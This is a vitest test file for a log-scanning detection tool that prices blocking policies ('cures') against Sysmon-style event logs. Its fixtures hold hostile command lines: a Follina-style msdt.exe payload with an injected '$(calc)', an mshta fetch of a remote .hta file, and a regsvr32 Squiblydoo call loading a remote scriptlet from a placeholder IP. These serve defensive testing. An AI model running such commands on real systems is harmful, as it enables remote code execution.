import { readFileSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import type { Cure } from "../../src/model/cure.ts";
import type { Event } from "../../src/model/event.ts";
import type { Finding } from "../../src/model/finding.ts";
import type { Level } from "../../src/model/level.ts";
import { Foreseen } from "../../src/pipeline/foreseen.ts";
import type { Outcome } from "../../src/pipeline/workers/protocol.ts";
import { CostsByLogs } from "../../src/policies/cure/costs/by-logs.ts";
import type { Act } from "../../src/policies/decide/act.ts";
import type { Policy } from "../../src/policies/model.ts";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";

const dir = folder();
afterAll(() => dir.remove());

interface Start {
  readonly host: string;
  readonly user: string;
  readonly image: string;
  readonly line: string;
  readonly original?: string;
}

let serial = 0;
const guid = () => `{${String(++serial).padStart(8, "0")}-0000-0000-0000-000000000000}`;
const common = (id: number, host: string, user: string) => ({
  SourceName: "Microsoft-Windows-Sysmon",
  EventID: id,
  RecordNumber: ++serial,
  Hostname: host,
  User: user,
  "@timestamp": `2024-05-01T10:00:${String(serial % 60).padStart(2, "0")}Z`,
});
const start = ({ host, user, image, line, original }: Start, key = guid()) => ({
  ...common(1, host, user),
  Image: image,
  OriginalFileName: original ?? image.split("\\").at(-1),
  CommandLine: line,
  ParentImage: "C:\\Windows\\explorer.exe",
  ProcessGuid: key,
});
const connection = (host: string, user: string, image: string, name: string) => ({
  ...common(3, host, user),
  Image: image,
  ProcessGuid: guid(),
  Protocol: "tcp",
  Initiated: "true",
  DestinationIp: "203.0.113.9",
  DestinationHostname: name,
  DestinationPort: 443,
});

const MSDT = "C:\\Windows\\System32\\msdt.exe";
const ordinary = (host: string, user: string) =>
  start({ host, user, image: MSDT, line: "msdt.exe -id DeviceDiagnostic" });
const BASE = {
  image: MSDT,
  line: 'msdt.exe /id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(calc)"',
};
const attack = start({ ...BASE, host: "pc-9", user: "CORP\\eve" });

let files = 0;
function logs(...events: readonly object[]): string {
  return dir.write(`${++files}.ndjson`, events.map((event) => `${JSON.stringify(event)}\n`).join(""));
}

async function found(path: string, ...more: readonly string[]): Promise<readonly Finding[]> {
  const { out, code, err } = await whatran(["scan", path, "-t", "ndjson", "-q", "--cures", ...more]);
  expect(code, err).toBe(0);
  return out
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Finding);
}

const byName = (finding: Finding | undefined): Cure | undefined =>
  finding?.cures?.find(({ text }) => text.includes("by its original file name"));

describe("what a cure would have cost in the scanned logs", () => {
  it("counts the other runs, their hosts and their users", async () => {
    const path = logs(
      ordinary("pc-1", "CORP\\ann"),
      ordinary("pc-1", "CORP\\ann"),
      attack,
      ordinary("PC-2.corp.example", "corp\\ANN"),
    );
    const [finding] = await found(path, "-m", "medium");
    expect(byName(finding)?.cost).toEqual({ by: "logs", times: 3, hosts: 2, users: 1, examples: [MSDT] });
  });

  it("counts neither findings at medium and above nor what their processes did", async () => {
    const key = "{0000feed-0000-0000-0000-000000000000}";
    const child = {
      ...start({ host: "pc-9", user: "CORP\\eve", image: MSDT, line: "msdt.exe" }),
      ParentProcessGuid: key,
    };
    const path = logs({ ...attack, ProcessGuid: key }, { ...child, "@timestamp": "2024-05-01T10:02:00Z" });
    const [finding] = await found(path, "-m", "medium");
    expect(byName(finding)?.cost).toMatchObject({ times: 0, hosts: 0, users: 0, examples: [] });
  });

  it("counts connections of programs that are not in the catalogue", async () => {
    const hta = start({
      host: "pc-1",
      user: "CORP\\eve",
      image: "C:\\Windows\\System32\\mshta.exe",
      line: "mshta https://files.example.net/a.hta",
    });
    const browsing = connection("pc-3", "CORP\\bob", "C:\\Program Files\\Browser\\browser.exe", "files.example.net");
    const path = logs(hta, browsing, browsing);
    for (const threads of ["1", "2"]) {
      const [finding] = await found(path, "--threads", threads);
      const cure = finding?.cures?.find(({ target }) => target === "rpz");
      expect(cure?.cost).toMatchObject({ times: 2, hosts: 1, users: 1, examples: ["files.example.net"] });
    }
  });

  it("finds the same as without", async () => {
    const path = logs(attack, ordinary("pc-1", "CORP\\ann"), connection("pc-3", "CORP\\bob", MSDT, "example.net"));
    const { out } = await whatran([
      "scan",
      path,
      "-t",
      "ndjson",
      "-q",
      "--cases",
      "-m",
      "informational",
      "--self-baseline",
    ]);
    const bare = (await found(path, "--cases", "-m", "informational", "--self-baseline")).map(
      ({ cures: _, ...rest }) => rest,
    );
    const plain = out
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { cures?: unknown });
    expect(bare).toEqual(plain.map(({ cures: _, ...rest }) => rest));
  });

  it("prefers what a baseline knows", async () => {
    const past = logs(ordinary("pc-1", "CORP\\ann"), ordinary("pc-2", "CORP\\ann"));
    const baseline = `${past}.baseline`;
    expect((await whatran(["learn", past, "--baseline", baseline, "-q"])).code).toBe(0);
    const [finding] = await found(logs(attack), "-m", "medium", "--baseline", baseline);
    expect(byName(finding)?.cost).toMatchObject({ by: "baseline", times: 2, hosts: 2 });
  });

  it("is told by tables, pages and cases", async () => {
    const path = logs(attack, ordinary("pc-1", "CORP\\ann"));
    const words = "in these logs it would have stopped 1 other event on 1 host by 1 user";
    const table = await whatran(["scan", path, "-t", "table", "-q", "--cures"]);
    expect(table.out.replace(/\s+/g, " ")).toContain(words);
    expect((await whatran(["scan", path, "-t", "table", "-q"])).out).not.toContain("stopped");
    await whatran(["scan", path, "-q", "-o", `${path}.html`]);
    expect(readFileSync(`${path}.html`, "utf8")).toContain(words);
    const cases = await whatran(["scan", path, "-q", "-t", "ndjson", "--cases"]);
    const item = cases.out
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { schema: string; cures?: string[] });
    const [first] = item.filter(({ schema }) => schema === "whatran/case/1");
    expect(first?.cures?.join("\n")).toContain(words);
  });

  it("answers explain --stdin with cures, line by line", async () => {
    const lines = ["regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll", "notepad.exe a.txt", "{"].join("\n");
    const { out } = await whatran(["explain", "--stdin"], { stdin: `${lines}\n` });
    const answers = out
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { invocations: { cures?: Cure[] }[] });
    expect(answers).toHaveLength(3);
    expect(answers[0]?.invocations[0]?.cures?.map(({ text }) => text).join()).toContain(
      "keeps scrobj.dll out of regsvr32.exe",
    );
    expect(answers[1]?.invocations.flatMap(({ cures = [] }) => cures)).toEqual([]);
  });
});

describe("what waits until costs are known", () => {
  const outcome = (title: string, level: Level) =>
    ({ finding: { title, level, source: { file: "log", index: 0 }, related: [] } as unknown as Finding }) as Outcome;
  const foreseen = (most: number, minLevel: Level = "low") => {
    const seen: string[] = [];
    const pricing = { prices: new CostsByLogs(), foresee: ({ title }: Finding) => void seen.push(title) };
    return { seen, all: new Foreseen(pricing, minLevel, most) };
  };

  it("is given out in the order in which it was found, without what lies below the level", () => {
    const { seen, all } = foreseen(9, "high");
    for (const one of [outcome("a", "high"), outcome("b", "medium"), outcome("c", "critical")]) all.take(one);
    expect(all.waiting?.map(({ finding }) => finding.title)).toEqual(["a", "c"]);
    expect(seen).toEqual(["a", "c"]);
  });

  it("asks for all rules even where it is too much to wait", () => {
    const { seen, all } = foreseen(1);
    for (const one of ["a", "b", "c"]) all.take(outcome(one, "low"));
    expect(all.waiting).toBeUndefined();
    expect(seen).toEqual(["a", "b", "c"]);
  });
});

describe("prices", () => {
  const policy: Policy = {
    target: "fapolicyd",
    name: "cure",
    mode: "enforce",
    rules: [{ id: "cure", action: "deny", on: ["execute"], object: [{ path: "/tmp/*" }] }],
    unknown: [],
  };
  const act: Act = { on: "execute", subject: {}, object: { path: "/tmp/a" }, platform: "linux" };
  const event = (host: string, index: number) =>
    ({ host, user: "ann", record: { file: "log", index } }) as unknown as Event;

  it("leave out the very act that is asked about, and its host where it is alone there", () => {
    const prices = new CostsByLogs();
    expect(prices.of(policy)).toBeUndefined();
    prices.count(event("pc-1", 0), [act], true);
    prices.count(event("pc-2", 1), [act], false);
    prices.end();
    expect(prices.of(policy)).toMatchObject({ times: 2, hosts: 2, users: 1 });
    expect(prices.of(policy, "log#0")).toMatchObject({ times: 1, hosts: 1, users: 1 });
    expect(prices.of(policy, "log#1")).toMatchObject({ times: 2, hosts: 2 });
  });

  it("say that there was more where names no longer found room", () => {
    const prices = new CostsByLogs(2);
    prices.of(policy);
    for (const [at, host] of ["a", "b", "c"].entries()) prices.count(event(host, at), [act], false);
    prices.end();
    expect(prices.of(policy)).toMatchObject({ times: 3, hosts: 1, users: 1, atLeast: true });
  });

  it("know nothing of a rule that nobody asked for in time, and of one that stops nothing", () => {
    const prices = new CostsByLogs();
    prices.end();
    expect(prices.of(policy)).toBeUndefined();
    const silent = new CostsByLogs();
    silent.of({ ...policy, rules: [{ ...policy.rules[0]!, action: "audit" }] });
    expect(silent.isEmpty).toBe(true);
  });
});
